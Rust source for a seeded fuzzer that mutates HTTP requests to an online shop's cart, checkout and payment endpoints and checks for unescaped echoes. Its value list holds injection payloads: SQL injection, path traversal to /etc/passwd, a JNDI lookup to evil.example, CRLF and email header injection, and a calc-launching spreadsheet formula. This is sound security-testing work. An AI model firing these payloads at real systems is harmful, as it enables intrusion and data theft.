//! Random requests that know the fields of an endpoint. The same seed gives the same requests.

use std::collections::BTreeMap;

use http::Method;
use rand::{
    RngExt, SeedableRng,
    rngs::StdRng,
    seq::{IndexedRandom, SliceRandom},
};
use serde_json::{Value, json};

use super::target::{Draft, Target};

/// The tag of a response that repeats input without escaping it.
pub const MARKER: &str = "<mjx5";

/// Values that have broken a parser, a database, a log or a page somewhere.
const VALUES: &[&str] = &[
    "",
    " ",
    "0",
    "1",
    "-1",
    "+1",
    "00",
    "1.5",
    "0.00001",
    "0.000001",
    "1e5",
    "1e309",
    "-0",
    "NaN",
    "Infinity",
    "0x10",
    "1,000",
    "127",
    "32768",
    "2147483648",
    "4294967296",
    "9007199254740993",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775808",
    "99999999999999999999999999999999999999999",
    "٣",
    "٩٩٩٩٩٩٩٩٩٩٩٩٩٩٩٩٩٩٩٩",
    "۱۲",
    "１２",
    "٣٫٥",
    "true",
    "false",
    "on",
    "null",
    "undefined",
    "[]",
    "{}",
    "[object Object]",
    "{\"a\":[1,{\"b\":null}]}",
    "\u{202e}abc\u{202c}",
    "\u{2066}\u{2067}\u{2068}\u{2069}",
    "\u{200f}\u{200e}\u{200d}\u{200c}",
    "\u{feff}",
    "\u{80}\u{85}\u{9f}",
    "\u{2028}\u{2029}",
    "\u{fffd}",
    "\u{10ffff}",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}",
    "ﷺ",
    "👩‍👩‍👧‍👦",
    "\t",
    "\r\nSet-Cookie: __Host-sid=1",
    "\0",
    "a\0b",
    "\u{1b}[31m",
    "\u{7f}",
    "'",
    "''; drop table carts; --",
    "' or '1'='1",
    "%",
    "%%",
    "_",
    "\\",
    "\\x00",
    "*",
    "(((((((((((",
    "(a+)+$",
    "../../../../etc/passwd",
    "..%2f..%2f",
    "/ar/../",
    "//evil.example/",
    "/\\evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "data:text/html,x",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
    "<mjx5>",
    "\"><mjx5>",
    "'><mjx5 onload=x>",
    "</script><mjx5>",
    "</textarea></title></style><mjx5>",
    "<!--<mjx5>",
    "]]><mjx5>",
    "\u{ff1c}mjx5\u{ff1e}",
    "salma@example.com",
    "a@b",
    "a@b.c\r\nBcc: x@evil.example",
    "4111111111111111",
    "2026-02-30",
    "9999-12-31T23:59:59Z",
    "US",
    "SA",
    "flat_rate:1",
    "authorize_net_cim_credit_card",
];

/// Names of fields that forms and calls of the shop have, for endpoints whose form is on no page.
const NAMES: &[&str] = &[
    "action",
    "add-to-cart",
    "attribute_pa_size",
    "billing_address_1",
    "billing_country",
    "billing_email",
    "billing_first_name",
    "calc_shipping_city",
    "calc_shipping_country",
    "cart[k1][qty]",
    "cart_item_key",
    "cart_key",
    "consent",
    "coupon_code",
    "cpage",
    "email",
    "filter_size",
    "first_name",
    "has_full_address",
    "id",
    "island",
    "key",
    "lists",
    "lists[]",
    "max_price",
    "message",
    "min_price",
    "name",
    "next",
    "notice",
    "order_id",
    "orderby",
    "page",
    "paged",
    "password",
    "password_1",
    "payment_method",
    "post_data",
    "product_id",
    "qty",
    "quantity",
    "refused",
    "remove_coupon",
    "remove_item",
    "remove_sale",
    "s",
    "shipping_method[0]",
    "state",
    "term",
    "tracksEventName",
    "tracksEventProp",
    "username",
    "variation_id",
    "wc-ajax",
    "wc-authorize-net-cim-credit-card-payment-nonce",
];

/// Names and values of the fields of an endpoint, as its form on a page has them.
#[derive(Debug, Clone, Default)]
pub struct Grammar {
    pub fields: Vec<(String, String)>,
    /// Values that exist in the shop: ids of products and orders, keys.
    pub known: Vec<String>,
}

pub struct Generator {
    rng: StdRng,
    grammar: Grammar,
}

impl Generator {
    /// The endpoint is part of the seed, so that its requests do not depend on the others.
    pub fn new(seed: u64, endpoint: &str, grammar: Grammar) -> Self {
        let mixed =
            endpoint.bytes().fold(seed, |sum, byte| sum.wrapping_mul(0x0100_0000_01b3) ^ u64::from(byte));
        Self { rng: StdRng::seed_from_u64(mixed), grammar }
    }

    fn chance(&mut self, percent: u32) -> bool {
        self.rng.random_range(0..100) < percent
    }

    fn value(&mut self) -> String {
        match self.rng.random_range(0..100) {
            0..62 => (*VALUES.choose(&mut self.rng).expect("values")).to_owned(),
            62..75 => self.grammar.known.choose(&mut self.rng).cloned().unwrap_or_default(),
            75..83 => self.rng.random::<i64>().to_string(),
            83..90 => {
                let length = *[60, 101, 300, 2_000, 20_000].choose(&mut self.rng).expect("lengths");
                ["a", "ع", "<", "9", "٩", "\u{200f}", " ", "e\u{301}"]
                    .choose(&mut self.rng)
                    .expect("characters")
                    .repeat(length)
            }
            _ => {
                let length = self.rng.random_range(0..40);
                (0..length).map(|_| self.rng.random::<char>()).collect()
            }
        }
    }

    fn name(&mut self) -> String {
        let own = self.grammar.fields.choose(&mut self.rng).map(|(name, _)| name.clone());
        let name = match own {
            Some(own) if self.rng.random_range(0..100) < 75 => own,
            _ => (*NAMES.choose(&mut self.rng).expect("names")).to_owned(),
        };
        let plain = name.trim_end_matches("[]").to_owned();
        match self.rng.random_range(0..100) {
            0..82 => name,
            82..87 => format!("{plain}[]"),
            87..90 => format!("{plain}[0]"),
            90..93 => format!("{plain}[a][b][]"),
            93..95 => format!("{plain}[{}]", self.rng.random::<u64>()),
            95..97 => plain.to_uppercase(),
            _ => self.value(),
        }
    }

    /// Changes a request that passes every check of the policy.
    pub fn mutate(&mut self, target: &Target, draft: &mut Draft) {
        if self.chance(10) {
            let value = self.value();
            draft.headers.push(("idempotency-key".to_owned(), header_text(&value)));
        }
        if self.chance(6) {
            self.mutate_path(target, draft);
        }
        if target.is_json() {
            draft.raw = Some(self.json_body());
        } else if draft.method == Method::POST {
            self.mutate_form(draft);
        } else {
            for _ in 0..self.rng.random_range(0..5) {
                let pair = (shortened(self.name()), shortened(self.value()));
                draft.query.push(pair);
            }
        }
    }

    fn mutate_path(&mut self, target: &Target, draft: &mut Draft) {
        let value = percent_encoding::utf8_percent_encode(
            &shortened(self.value()),
            percent_encoding::NON_ALPHANUMERIC,
        )
        .to_string();
        let mut parts: Vec<&str> = draft.path.split('/').collect();
        let has_parameter = target.location.to_string().contains('{');
        if let Some(index) = has_parameter.then(|| parts.len().saturating_sub(2)) {
            parts[index] = &value;
        }
        draft.path = parts.join("/");
    }

    fn mutate_form(&mut self, draft: &mut Draft) {
        // The nonce and the name of the action stay, or no handler would be reached.
        let fixed: Vec<String> = draft.fields.iter().map(|(name, _)| name.clone()).collect();
        let form = self.grammar.fields.clone();
        draft.fields.extend(form.into_iter().filter(|(name, _)| !fixed.contains(name)));
        for _ in 0..self.rng.random_range(1..6) {
            let free: Vec<usize> = (fixed.len()..draft.fields.len()).collect();
            match (free.choose(&mut self.rng).copied(), self.rng.random_range(0..100)) {
                (Some(index), 0..55) => draft.fields[index].1 = self.value(),
                (Some(index), 55..65) => drop(draft.fields.remove(index)),
                (Some(index), 65..70) => draft.fields[index].0 = self.name(),
                _ => {
                    let (name, value) = (self.name(), self.value());
                    draft.fields.retain(|(known, _)| *known != name || fixed.contains(known));
                    draft.fields.push((name, value));
                }
            }
        }
        match self.rng.random_range(0..100) {
            0..78 => {}
            78..90 => self.as_multipart(draft),
            90..95 => {
                let mut bytes = draft.body().to_vec();
                let garbage: &[&[u8]] =
                    &[b"&%", b"&%zz=1", b"&a=%2", b"&=&=&", b"&&&&", b"&a=%25%30%30", b"&a;b=c", b"&a=+%2B+"];
                bytes.extend_from_slice(garbage.choose(&mut self.rng).expect("garbage"));
                draft.raw = Some(bytes);
            }
            95..98 => {
                let mut bytes = draft.body().to_vec();
                for _ in 0..self.rng.random_range(1..8) {
                    let index = self.rng.random_range(0..bytes.len().max(1));
                    if let Some(byte) = bytes.get_mut(index) {
                        *byte = self.rng.random();
                    }
                }
                draft.raw = Some(bytes);
            }
            _ => draft.raw = Some(self.json_body()),
        }
    }

    fn as_multipart(&mut self, draft: &mut Draft) {
        let boundary = "mjx-boundary";
        let mut fields = draft.fields.clone();
        fields.shuffle(&mut self.rng);
        let mut body = String::new();
        for (name, value) in &fields {
            let name = name.replace(['"', '\r', '\n', '\0'], "");
            let file = if self.chance(2) { "; filename=\"a.svg\"" } else { "" };
            body += &format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"{file}\r\n\r\n{value}\r\n"
            );
        }
        if !self.chance(5) {
            body += &format!("--{boundary}--\r\n");
        }
        *draft =
            draft.clone().with_header("content-type", &format!("multipart/form-data; boundary={boundary}"));
        draft.raw = Some(body.into_bytes());
    }

    fn json_body(&mut self) -> Vec<u8> {
        let mut bytes = self.json(4).to_string().into_bytes();
        match self.rng.random_range(0..100) {
            0..5 => bytes.truncate(bytes.len() / 2),
            5..8 => bytes = vec![b'['; 30_000],
            8..10 => bytes.insert(bytes.len() / 2, 0xff),
            _ => {}
        }
        bytes
    }

    fn json(&mut self, depth: u32) -> Value {
        if depth == 4 && self.chance(80) {
            // The fields of the Store API and of the provider's notices.
            let mut body = json!({
                "id": self.grammar.known.first().and_then(|id| id.parse::<i64>().ok()),
                "quantity": 1,
                "variation": [{"attribute": "pa_size", "value": "M"}],
                "key": "00000000000000000000000000000000",
                "code": "x",
                "rate_id": "flat_rate:1",
                "namespace": "x",
                "shipping_address": {"country": "US", "city": "x"},
                "requests": [{"path": "/wc/store/v1/cart/add-item", "body": {"id": 1}}],
                "billing_address": {"email": "salma@example.com", "first_name": "س", "country": "US"},
                "payment_method": "authorize_net_cim_credit_card",
                "payment_data": [{"key": "a", "value": "b"}],
                "customer_note": "",
                "expected_total": "1800",
                "extensions": {"woocommerce/order-attribution": {"source_type": "x"}},
                "notificationId": "1",
                "eventType": "net.authorize.payment.authcapture.created",
            });
            for _ in 0..self.rng.random_range(1..4) {
                let keys: Vec<String> = body.as_object().expect("an object").keys().cloned().collect();
                let key = keys.choose(&mut self.rng).cloned().unwrap_or_default();
                body[key] = self.json(2);
            }
            return body;
        }
        match self.rng.random_range(0..100) {
            0..45 => Value::String(self.value()),
            45..55 => json!(self.rng.random::<i64>()),
            55..60 => json!(self.rng.random::<f64>() * 1e300),
            60..70 => [json!(null), json!(true), json!(false), json!([]), json!({})]
                .choose(&mut self.rng)
                .cloned()
                .unwrap_or_default(),
            _ if depth == 0 => Value::Null,
            70..85 => {
                let length = self.rng.random_range(0..4);
                Value::Array((0..length).map(|_| self.json(depth - 1)).collect())
            }
            _ => {
                let length = self.rng.random_range(0..4);
                let pairs: BTreeMap<String, Value> =
                    (0..length).map(|_| (self.name(), self.json(depth - 1))).collect();
                json!(pairs)
            }
        }
    }
}

/// A client refuses to send an address of 64 KiB.
fn shortened(value: String) -> String {
    value.chars().take(1_500).collect()
}

/// A header takes visible ASCII only.
fn header_text(value: &str) -> String {
    value.chars().filter(|c| c.is_ascii_graphic()).take(200).collect()
}
